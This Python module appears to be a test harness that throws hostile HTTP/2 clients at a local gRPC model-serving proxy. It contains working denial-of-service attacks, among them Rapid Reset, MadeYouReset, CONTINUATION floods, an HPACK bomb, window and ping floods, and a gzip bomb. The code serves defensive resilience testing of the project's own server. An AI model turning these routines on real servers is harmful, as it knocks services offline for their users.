"""What hostile clients do, one connection at a time: published attacks and those that were found here.

Each attack is a coroutine that opens connections to one port, does harm, and goes without a word.
"""

import asyncio
import contextlib
import gzip
from collections.abc import Awaitable, Callable
from random import Random

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes([0, 0, 0, 4, 0, 0, 0, 0, 0])
SOURCE = "127.0.0.66"
"""Hostile clients have an address of their own."""
BURST = 200
"""Frames of one step; the storm is wide, not deep: the machine is shared with whom it must not hurt."""


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One HTTP/2 frame."""
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def block(path: str, model: str, *headers: tuple[str, str]) -> bytes:
    """A header block that needs no table."""
    pairs = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", "x"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
        ("mm-model-id", model),
        *headers,
    ]
    return hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(*pair) for pair in pairs], huffman=False)


ECHO = block("/bench.Echo/Call", "m-0")
EVIL = block("/bench.Echo/Call", "evil")
COLD = block("/bench.Echo/Call", "cold")
MANAGE = block("/mmesh.ModelMesh/registerModel", "m-0", ("grpc-encoding", "gzip"))
MANY = block("/bench.Echo/Call", "m-0", *((f"x-{number}", "y") for number in range(150)))
BOMB = gzip.compress(bytes(1 << 20), mtime=0)
EMPTY = bytes(5)
STREAMS = range(1, 2 * BURST, 2)


class Hostile:
    """One connection that is not read, unless it says so."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self._reader, self._writer = reader, writer

    @classmethod
    async def connect(cls, port: int, *, speaks: bool = True) -> "Hostile":
        """A connection, with the preface if it `speaks`."""
        opened = await asyncio.open_connection("127.0.0.1", port, local_addr=(SOURCE, 0), limit=1 << 12)
        hostile = cls(*opened)
        if speaks:
            await hostile.say(PREFACE)
        return hostile

    async def say(self, *frames: bytes) -> None:
        """Write, as far as the other side reads within a moment."""
        self._writer.write(b"".join(frames))
        async with asyncio.timeout(1.0):
            await self._writer.drain()

    def go(self) -> None:
        """Hang up without a word."""
        self._writer.transport.abort()


Attack = Callable[[Hostile, Random], Awaitable[None]]


async def rapid_reset(hostile: Hostile, _: Random) -> None:
    """CVE-2023-44487."""
    for stream in STREAMS:
        await hostile.say(frame(1, 4, stream, ECHO), frame(3, 0, stream, bytes([0, 0, 0, 8])))


async def late_resets(hostile: Hostile, _: Random) -> None:
    """Calls that have been seen are given up in a burst."""
    await hostile.say(*(frame(1, 4, stream, ECHO) for stream in STREAMS))
    await asyncio.sleep(0.2)
    await hostile.say(*(frame(3, 0, stream, bytes([0, 0, 0, 8])) for stream in STREAMS))


async def made_resets(hostile: Hostile, _: Random) -> None:
    """CVE-2025-8671: windows that grow by nothing."""
    for stream in STREAMS:
        await hostile.say(frame(1, 4, stream, ECHO), frame(8, 0, stream, bytes(4)))


async def continuation(hostile: Hostile, _: Random) -> None:
    """CVE-2024-27316 and its like."""
    await hostile.say(frame(1, 0, 1, ECHO), *(frame(9, 0, 1) for _ in range(BURST)))


async def hpack_bomb(hostile: Hostile, _: Random) -> None:
    """CVE-2016-6581: one field of 4,000 bytes, again and again for a byte."""
    bomb = ECHO + b"\x40\x01a\x7f\xa1\x1e" + bytes(0x7F + 0x21 + (0x1E << 7)) + b"\xbe" * 10_000
    await hostile.say(frame(1, 4, 1, bomb[:16_384]))


async def nothings(hostile: Hostile, rng: Random) -> None:
    """CVE-2019-9512, 9513, 9515 and 9518: pings, priorities, settings, empty frames."""
    what = rng.choice([frame(6, 0, 0, bytes(8)), frame(2, 0, 1, bytes(5)), frame(4, 0, 0), frame(0, 0, 1)])
    await hostile.say(frame(1, 4, 1, ECHO))
    for _ in range(20):
        await hostile.say(what * BURST)


async def windows(hostile: Hostile, _: Random) -> None:
    """CVE-2019-9511 and 9517: no windows, then a byte at a time; and all windows changed over and over."""
    await hostile.say(frame(4, 0, 0, bytes([0, 4, 0, 0, 0, 0])))
    await hostile.say(*(frame(1, 4, stream, ECHO) + frame(0, 1, stream, EMPTY) for stream in STREAMS))
    await hostile.say(frame(8, 0, 0, bytes([0, 0, 0, 1])) * BURST)
    for value in range(BURST):
        await hostile.say(frame(4, 0, 0, bytes([0, 4, 0, 0, 0, value])))


async def unread_answers(hostile: Hostile, _: Random) -> None:
    """CVE-2019-9517: refusals that repeat what was asked for."""
    refused = block("/" + "p" * 3000, "m-0")
    for stream in range(1, 20 * BURST, 2):
        await hostile.say(frame(1, 5, stream, refused))


async def unfinished(hostile: Hostile, _: Random) -> None:
    """Calls with many small headers that never end."""
    for stream in range(1, 10 * BURST, 2):
        await hostile.say(frame(1, 4, stream, MANY))
    await asyncio.sleep(1.0)


async def small_payloads(hostile: Hostile, _: Random) -> None:
    """A little of a body beside much that says nothing."""
    await hostile.say(*(frame(1, 4, stream, COLD) for stream in STREAMS))
    for stream in STREAMS:
        await hostile.say(frame(0, 0, stream, b"\0\0\x10\0\0" + bytes(1020)), frame(0xFF, 0, 0, bytes(16_000)))


async def bodies(hostile: Hostile, _: Random) -> None:
    """Bodies for a model that is never loaded."""
    for stream in STREAMS[:32]:
        await hostile.say(frame(1, 4, stream, COLD), *[frame(0, 0, stream, b"\0\0\x80\0\0" + bytes(60_000))] * 8)


async def thousand_ids(hostile: Hostile, _: Random) -> None:
    """Calls about a thousand models each."""
    ids = block("/bench.Echo/Call", "m-0", *[("mm-model-id", "m-0")] * 999)
    for stream in STREAMS[:20]:
        parts = [ids[at : at + 16_000] for at in range(0, len(ids), 16_000)]
        last = len(parts) - 1
        await hostile.say(
            *(frame(9 if at else 1, 4 if at == last else 0, stream, part) for at, part in enumerate(parts)),
            frame(0, 0, stream, bytes(3)),
        )


async def management(hostile: Hostile, _: Random) -> None:
    """Requests to our own services that never end, and bombs."""
    body = b"\1" + len(BOMB).to_bytes(4, "big") + BOMB
    for number, stream in enumerate(range(1, 10 * BURST, 2)):
        await hostile.say(frame(1, 4, stream, MANAGE), frame(0, 1, stream, body) if number % 20 == 0 else b"")


async def evil_model(hostile: Hostile, _: Random) -> None:
    """Calls to the model whose runtime breaks its word."""
    await hostile.say(*(frame(1, 4, stream, EVIL) + frame(0, 1, stream, EMPTY) for stream in STREAMS[:20]))
    await asyncio.sleep(0.5)


async def garbage(hostile: Hostile, rng: Random) -> None:
    """Frames of any kind."""
    for _ in range(BURST):
        kind, flags, stream = rng.randrange(12), rng.randrange(256), rng.choice([0, 1, 3, 5, 8])
        await hostile.say(frame(kind, flags, stream, rng.randbytes(rng.choice([0, 4, 5, 8, 40]))))


ATTACKS: dict[str, Attack] = {
    attack.__name__: attack
    for attack in (
        rapid_reset,
        late_resets,
        made_resets,
        continuation,
        hpack_bomb,
        nothings,
        windows,
        unread_answers,
        unfinished,
        small_payloads,
        bodies,
        thousand_ids,
        management,
        evil_model,
        garbage,
    )
}


async def silent(port: int, count: int, rng: Random) -> None:
    """Connections that say nothing, or half a preface."""
    opened = [await Hostile.connect(port, speaks=False) for _ in range(count)]
    for hostile in opened[::2]:
        await hostile.say(PREFACE[: rng.randrange(24)])
    await asyncio.sleep(1.0)
    for hostile in opened:
        hostile.go()


async def play(attack: Attack, port: int, rng: Random) -> None:
    """One attack on one connection; what the other side does about it is its own affair."""
    with contextlib.suppress(OSError, TimeoutError):
        hostile = await Hostile.connect(port)
        try:
            await attack(hostile, rng)
            await asyncio.sleep(rng.random() * 0.5)
        finally:
            hostile.go()
